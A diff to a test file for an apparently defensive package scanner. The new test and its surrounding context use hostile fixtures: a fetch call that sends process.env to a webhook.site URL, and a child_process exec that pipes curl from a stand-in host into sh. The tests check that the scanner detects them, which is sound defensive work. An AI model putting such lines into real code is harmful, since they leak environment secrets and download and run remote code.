@@ -133,6 +133,15 @@ describe('scanner bounds', () => {
     assert.ok(rules(r).has('eval-decoded'));
   });
 
+  it('code nested deeply enough to overflow the parser is still read, by pattern, without a crash', () => {
+    const deep = 'x = ' + '['.repeat(200_000) + ']'.repeat(200_000) + ';';
+    const r = scan({ 'index.js': `fetch('https://webhook.site/x', { body: JSON.stringify(process.env) });\n${deep}` });
+    assert.ok(rules(r).has('exfiltration-endpoint'));
+    assert.ok(rules(r).has('env-dump'));
+    const odd = scanTarball(packFiles({ 'package.json': '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": 42}}' }), { signatures });
+    assert.equal(odd.verdict, 'clean');
+  });
+
   it('files over the size limit are hashed, not read', () => {
     const big = `// ${'x'.repeat(3.5 * 1024 * 1024)}\nrequire('child_process').exec('curl -s https://x.example.invalid | sh');`;
     const r = scan({ 'big.js': big });
